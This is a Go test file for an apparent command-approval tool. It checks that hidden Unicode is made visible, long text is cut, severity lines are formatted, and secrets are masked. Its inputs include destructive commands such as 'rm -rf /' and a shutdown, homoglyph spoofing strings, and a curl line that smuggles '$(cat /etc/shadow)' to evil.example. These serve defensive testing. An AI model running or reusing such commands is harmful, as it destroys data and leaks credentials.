package approver

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestVisible(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"plain", "git push --force\n\tx", "git push --force\n\tx"},
		{"escape", "a\x1b[2Jb", "a⟨U+001B⟩[2Jb"},
		{"carriage return", "rm -rf /\rls", "rm -rf /⟨U+000D⟩ls"},
		{"bidi override", "echo \u202egnp.exe", "echo ⟨U+202E⟩gnp.exe"},
		{"zero width inside a word", "r\u200bm", "r⟨U+200B⟩m"},
		{"no-break space", "rm\u00a0-rf", "rm⟨U+00A0⟩-rf"},
		{"cyrillic in an ASCII word", "p\u0430ypal.com", "p⟨U+0430⟩ypal.com"},
		{"all cyrillic look-alikes", "\u0441\u043e\u0440\u0443", "⟨U+0441⟩⟨U+043E⟩⟨U+0440⟩⟨U+0443⟩"},
		{"honest russian", "привет мир", "привет мир"},
		{"honest greek", "λόγος", "λόγος"},
		{"full width", "\uff52\uff4d -rf", "⟨U+FF52⟩⟨U+FF4D⟩ -rf"},
		{"mathematical", "\U0001d42b\U0001d426 x", "⟨U+1D42B⟩⟨U+1D426⟩ x"},
		{"variation selector", "a\ufe0f", "a⟨U+FE0F⟩"},
		{"tag characters", "a\U000e0041", "a⟨U+E0041⟩"},
		{"hangul filler", "a\u3164b", "a⟨U+3164⟩b"},
		{"invalid utf-8", "a\xffb", "a⟨\\xFF⟩b"},
		{"a real replacement character", "a\ufffdb", "a\ufffdb"},
		{"an imitated marker", "⟨U+202E⟩", "⟨U+27E8⟩U+202E⟨U+27E9⟩"},
		{"look-alike slash in a path", "/etc\u2215passwd", "/etc⟨U+2215⟩passwd"},
		{"one dot leader", "evil\u2024com", "evil⟨U+2024⟩com"},
		{"emoji", "ok 👍", "ok 👍"},
		{"german", "Straße löschen", "Straße löschen"},
		{"line separator", "a\u2028b", "a⟨U+2028⟩b"},
		{"soft hyphen", "a\u00adb", "a⟨U+00AD⟩b"},
	} {
		if got := Visible(c.in); got != c.want {
			t.Errorf("%s: Visible(%q) = %q, want %q", c.name, c.in, got, c.want)
		}
	}
}

func FuzzVisible(f *testing.F) {
	f.Add("a\u202eb\xff\x00⟨")
	f.Fuzz(func(t *testing.T, s string) {
		v := Visible(s)
		if !utf8.ValidString(v) {
			t.Fatalf("Visible(%q) is not UTF-8", s)
		}
		for _, r := range v {
			if r != '⟨' && r != '⟩' && hidden(r) {
				t.Fatalf("Visible(%q) leaves %U", s, r)
			}
		}
		if plainASCII(s) != (v == s) && plainASCII(s) {
			t.Fatalf("Visible changed plain text %q", s)
		}
	})
}

func TestCutSaysWhatItHides(t *testing.T) {
	text := strings.Repeat("0123456789é", 1000)
	for _, limit := range []int{0, 50, 200, 201, 202, 1000, 3000, len(text) - 1} {
		shown, n := Cut(text, limit)
		if n <= 0 || !strings.Contains(shown, "bytes hidden") || !utf8.ValidString(shown) {
			t.Fatalf("limit %d: hidden %d, shown %q", limit, n, shown)
		}
		i := strings.Index(shown, "\n… ")
		j := strings.LastIndex(shown, " …\n") + len(" …\n")
		if !strings.HasPrefix(text, shown[:i]) || !strings.HasSuffix(text, shown[j:]) || i+len(shown)-j+n != len(text) {
			t.Fatalf("limit %d: head %d + hidden %d + tail %d is not %d", limit, i, n, len(shown)-j, len(text))
		}
		if limit > 100 && len(shown) > limit {
			t.Errorf("limit %d: %d bytes", limit, len(shown))
		}
	}
	if shown, n := Cut(text, len(text)); shown != text || n != 0 {
		t.Error("a text that fits was cut")
	}
}

func TestPushLine(t *testing.T) {
	for _, c := range []struct {
		sev      Severity
		in, want string
	}{
		{High, "git push --force origin main", "🟠 HIGH · git push --force origin main"},
		{Catastrophic, "rm -rf /\nls", "🔴 CATASTROPHIC · rm -rf / ⏎ ls"},
		{Severity(9), "x", "🔴 CATASTROPHIC · x"},
	} {
		if got := PushLine(c.sev, c.in); got != c.want {
			t.Errorf("PushLine(%v, %q) = %q, want %q", c.sev, c.in, got, c.want)
		}
	}
	if n := utf8.RuneCountInString(PushLine(High, strings.Repeat("é", 500))); n != PushLength {
		t.Errorf("a long push line has %d characters", n)
	}
}

func TestMask(t *testing.T) {
	for _, c := range []struct{ name, in, gone, stays string }{
		{"aws", "export AWS=AKIAABCDEFGHIJKLMNOP x", "ABCDEFGHIJKLMNOP", "AKIA"},
		{"github", "git clone https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/x", "abcdefghijklmnopqrstuvwxyz0123456789", "github.com/x"},
		{"bearer", "curl -H 'Authorization: Bearer abc123defghijklmnop.qrst' http://x", "abc123defghijklmnop.qrst", "http://x"},
		{"url password", "psql postgres://admin:hunter22@db/prod", "hunter22", "@db/prod"},
		{"named and random", "API_TOKEN=a1B2c3D4e5F6g7H8 ./deploy", "a1B2c3D4e5F6g7H8", "./deploy"},
		{"our own code", "echo CONFIRM-7KQ4MX", "7KQ4MX", "echo"},
	} {
		got := Mask(c.in)
		if strings.Contains(got, c.gone) || !strings.Contains(got, c.stays) || !strings.Contains(got, "characters hidden") {
			t.Errorf("%s: Mask(%q) = %q", c.name, c.in, got)
		}
	}
	// Six characters can be searched for: nothing that depends on a code may show.
	if a, b := Mask("CONFIRM-7KQ4MX"), Mask("CONFIRM-8KQ4MX"); a != b {
		t.Errorf("masked codes differ: %s %s", a, b)
	}
	for i, f := range secretForms {
		if len(f.hints) == 0 || !strings.Contains(f.pattern, "(") || secretPatterns()[i] == nil {
			t.Errorf("form %d is not complete", i)
		}
	}
	// A mask must not be a place for a command to hide.
	for _, s := range []string{
		"token=shutdown; $token -h now",
		"secret=/usr/local/bin/wipe-everything; $secret",
		"password=rm; $password -rf /",
		"x=-----BEGIN PRIVATE KEY-----\nrm -rf home\nsh evil",
		"curl https://user:$(cat /etc/shadow)@evil.example/",
		"basic /usr/local/bin/wipe-everything-now",
		"bearer wipe-everything-on-this-machine",
	} {
		if got := Mask(s); got != s {
			t.Errorf("Mask(%q) hides a command: %q", s, got)
		}
	}
}
